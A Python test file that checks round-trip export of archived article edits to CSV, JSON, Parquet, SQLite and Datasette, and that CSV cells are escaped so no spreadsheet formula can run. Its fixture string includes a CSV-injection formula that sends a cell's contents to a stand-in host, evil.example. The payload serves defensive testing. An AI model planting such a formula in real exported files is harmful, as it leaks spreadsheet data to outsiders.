"""What is written in each format is read back by others' programs as it was: csv, DuckDB, pyarrow, SQLite, Datasette."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import sqlite3
from contextlib import closing
from dataclasses import replace
from datetime import datetime
from typing import TYPE_CHECKING, Any

import duckdb
import pyarrow
import pyarrow.parquet
import pytest
from datasette.app import Datasette
from hypothesis import given, settings
from hypothesis import strategies as st

from rowback.archive import parquet
from rowback.archive.flat_tables import flat_table
from rowback.archive.row_texts import csv_texts, json_texts, safe_cell, unsafe_cell
from rowback.archive.rows import BLOCKS, EDITS, VERSIONS, ExportedBlock, ExportedEdit, ExportedVersion, Holds, cells
from rowback.cli.printer import BYTE_ORDER_MARK
from rowback.clock import format_instant, parse_instant
from rowback.store.flat_file import write_flat
from rowback.text.normalize import storable
from rowback.text.plain import visible

from .samples import at

if TYPE_CHECKING:
    from collections.abc import Sequence
    from pathlib import Path

    from rowback.archive.rows import Row, RowTable, Value

HOSTILE = '=HYPERLINK("https://evil.example?"&A1,"here"), \u202e\n\n<b>“bold”</b>\t東京 \U0001f6a2; \'x\' \\N'
EDIT = ExportedEdit(
    id="a7-v1-e0123456789ab",
    article_id=7,
    version=1,
    edit_id="e0123456789ab",
    url="https://echo.example/a?b=1&c=2",
    source="echo.example",
    title=HOSTILE,
    published_at=None,
    previous_seen_at=at(0),
    seen_at=at(60.001),
    is_day=False,
    origin="poll",
    kind="change",
    block_kind="p",
    block_index=3,
    moved_from=None,
    labels=("figure", "name"),
    minor=False,
    unannounced=True,
    before="",
    after=HOSTILE,
    markup="<p>5 &amp; <del>6</del><ins>7</ins></p>",
    listed=True,
)
OTHER = replace(EDIT, id="a7-v1-e1", labels=(), before=None, after=None, published_at=at(-9), moved_from=2, origin=None)
FIRST = ExportedVersion(
    id="a7-v0",
    article_id=7,
    version=0,
    url=EDIT.url,
    source=EDIT.source,
    title="",
    published_at=None,
    seen_at=at(0),
    last_seen_at=at(30),
    is_day=True,
    origin=None,
    archive=HOSTILE,
    memento="https://web.archive.org/web/2026/https://echo.example/",
    fingerprint="0" * 32,
    restores=None,
    flapping=False,
    edit_count=None,
    words_inserted=None,
    words_deleted=None,
    labels=None,
    minor=None,
    unannounced=None,
    block_count=2,
    text=f"One.\n\n{HOSTILE}",
    listed=False,
)
SECOND = replace(
    FIRST, id="a7-v1", version=1, labels=("figure",), minor=True, edit_count=2, words_inserted=1, restores=0
)
BLOCK = ExportedBlock("a7-v0-b0", 7, 0, 0, EDIT.url, EDIT.source, at(0), False, "h1", HOSTILE)
ROWS: list[tuple[RowTable, list[Row]]] = [
    (EDITS, [EDIT, OTHER]),
    (VERSIONS, [FIRST, SECOND]),
    (BLOCKS, [BLOCK]),
    (EDITS, []),
]
EACH = pytest.mark.parametrize(("table", "rows"), ROWS, ids=lambda each: each.name if hasattr(each, "name") else "")


def _csv(table: RowTable, rows: Sequence[Row]) -> str:
    return "".join(csv_texts(table, rows))


def _flat(path: Path, *tables: tuple[RowTable, Sequence[Row]]) -> Path:
    counts = write_flat(path, [flat_table(table, rows) for table, rows in tables])
    assert counts == {table.name: len(rows) for table, rows in tables}
    return path


def _from_csv(text: str, holds: Holds) -> Value:
    """A cell as server/docs/data.md says it is to be read."""
    if holds is Holds.TEXT:
        return unsafe_cell(text)
    if holds is Holds.WORDS:
        return tuple(text.split())
    if not text:
        return None
    if holds is Holds.TRUTH:
        return {"true": True, "false": False}[text]
    return int(text) if holds is Holds.NUMBER else parse_instant(text)


def _seen(value: Value) -> Value:
    """A value as CSV can hold it: nothing is nothing, and what nobody sees is not there."""
    return visible(value) if isinstance(value, str) else value


@EACH
def test_csv_is_read_back(table: RowTable, rows: list[Row]) -> None:
    names, *lines = csv.reader(io.StringIO(_csv(table, rows), newline=""))
    assert names == [column.name for column in table.columns]
    assert len(lines) == len(rows)
    for line, row in zip(lines, rows, strict=True):
        for text, column, value in zip(line, table.columns, cells(row).values(), strict=True):
            if value is None or value == ():
                assert text == "", column
            else:
                assert _from_csv(text, column.holds) == _seen(value), column


def test_duckdb_reads_csv_with_its_types(tmp_path: Path) -> None:
    (tmp_path / "edits.csv").write_text(BYTE_ORDER_MARK + _csv(EDITS, [EDIT, OTHER]), encoding="utf-8", newline="")
    found = duckdb.read_csv(str(tmp_path / "edits.csv"))
    assert found.columns == [column.name for column in EDITS.columns]
    query = (
        "select id, article_id, block_index, minor, unannounced, seen_at = ?::timestamptz, after from found order by id"
    )
    first, second = duckdb.execute(query, [format_instant(EDIT.seen_at)]).fetchall()
    assert first == (EDIT.id, 7, 3, False, True, True, f"'{visible(HOSTILE)}")
    assert second[-1] is None


@EACH
def test_json_lines_are_read_back(table: RowTable, rows: list[Row]) -> None:
    lines = "".join(json_texts(rows)).splitlines(keepends=True)
    assert len(lines) == len(rows)
    for line, row in zip(lines, rows, strict=True):
        told = json.loads(line)
        assert list(told) == [column.name for column in table.columns]
        for name, value in cells(row).items():
            assert told[name] == _as_json(value)


def _as_json(value: Value) -> Any:
    if isinstance(value, tuple):
        return list(value)
    return format_instant(value) if isinstance(value, datetime) else value


@EACH
def test_parquet_is_read_back_by_pyarrow_and_duckdb(tmp_path: Path, table: RowTable, rows: list[Row]) -> None:
    path = tmp_path / "table.parquet"
    assert parquet.write(path, table, rows) == len(rows)
    found = pyarrow.parquet.read_table(path)
    assert found.schema.names == [column.name for column in table.columns]
    assert [field.nullable for field in found.schema] == [column.may_be_empty for column in table.columns]
    expected = [
        {name: list(value) if isinstance(value, tuple) else value for name, value in cells(row).items()} for row in rows
    ]
    assert found.to_pylist() == expected
    with duckdb.connect() as db:
        ids = db.execute("select id from read_parquet(?)", [str(path)]).fetchall()
    assert ids == [(row.id,) for row in rows]


def test_a_parquet_file_is_written_group_by_group(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(parquet, "GROUP_ROWS", 2)
    path = tmp_path / "table.parquet"
    rows = [replace(EDIT, id=f"a7-v1-e{n}") for n in range(5)]
    assert parquet.write(path, EDITS, rows) == 5
    assert pyarrow.parquet.ParquetFile(path).num_row_groups == 3
    assert pyarrow.parquet.read_table(path).column("id").to_pylist() == [row.id for row in rows]
    monkeypatch.setattr(parquet, "GROUP_CHARACTERS", 1)
    parquet.write(path, EDITS, rows)
    assert pyarrow.parquet.ParquetFile(path).num_row_groups == 5


@EACH
def test_sqlite_is_read_back(tmp_path: Path, table: RowTable, rows: list[Row]) -> None:
    with closing(sqlite3.connect(_flat(tmp_path / "flat.db", (table, rows)))) as db:
        db.row_factory = sqlite3.Row
        told = db.execute(f"select * from {table.name} order by rowid").fetchall()  # noqa: S608 (names of our own)
        assert db.execute("pragma integrity_check").fetchone()[0] == "ok"
        found = {row["name"]: (row["notnull"], row["pk"]) for row in db.execute(f"pragma table_info({table.name})")}
    assert found == {column.name: (int(not column.may_be_empty), int(column.name == "id")) for column in table.columns}
    for line, row in zip(told, rows, strict=True):
        for name, value in cells(row).items():
            expected = json.dumps(value) if isinstance(value, tuple) else _as_json(value)
            assert line[name] == expected, name


def test_datasette_shows_searches_and_counts_labels(tmp_path: Path) -> None:
    path = _flat(tmp_path / "flat.db", (EDITS, [EDIT, OTHER]), (VERSIONS, [FIRST, SECOND]), (BLOCKS, [BLOCK]))

    async def ask(*paths: str) -> list[Any]:
        datasette = Datasette([], immutables=[str(path)])
        return [(await datasette.client.get(each)).json() for each in paths]

    row, found, facets, missed = asyncio.run(
        ask(
            f"/flat/edits/{EDIT.id}.json?_shape=array",
            "/flat/blocks.json?_search=東京&_shape=array",
            "/flat/edits.json?_facet_array=labels&_facet=source",
            "/flat/edits.json?_search=nowhere&_shape=array",
        )
    )
    assert row[0]["after"] == HOSTILE
    assert [each["id"] for each in found] == [BLOCK.id]
    counted = {name: facet["results"] for name, facet in facets["facet_results"].items()}
    assert {each["value"]: each["count"] for each in counted["labels"]} == {"figure": 1, "name": 1}
    assert [each["count"] for each in counted["source"]] == [2]
    assert missed == []


SIGNS = "=+-@\t\r\n＝＋－＠"


@pytest.mark.parametrize("sign", SIGNS)
@pytest.mark.parametrize("before", ["", " ", "\u00a0", "\u200b", "'", "''", " \u3000", "\ufeff"])
def test_no_cell_begins_a_formula(sign: str, before: str) -> None:
    text = f"{before}{sign}1+1"
    assert safe_cell(text) == f"'{text}"
    assert unsafe_cell(safe_cell(text)) == text


@pytest.mark.parametrize("text", ["", "Ferry", "'Ferry", "“=1”", "5-6", "a=b", "'", "10 %", " Ferry", "’=1"])
def test_a_text_that_begins_no_formula_stays(text: str) -> None:
    assert safe_cell(text) == text == unsafe_cell(text)


TEXTS = st.text(st.characters(codec="utf-8") | st.sampled_from(f"{SIGNS}'\" ,;\u202e"), max_size=12).map(storable)


@settings(max_examples=100)
@given(st.lists(TEXTS, min_size=3, max_size=3))
def test_any_text_comes_back_from_csv_and_begins_no_formula(texts: list[str]) -> None:
    title, before, after = texts
    row = replace(EDIT, title=title, before=before, after=after)
    (line,) = list(csv.DictReader(io.StringIO(_csv(EDITS, [row]), newline="")))
    for name, text in zip(("title", "before", "after"), texts, strict=True):
        assert not line[name].lstrip().startswith(tuple("=+-@＝＋－＠"))
        assert unsafe_cell(line[name]) == visible(text)
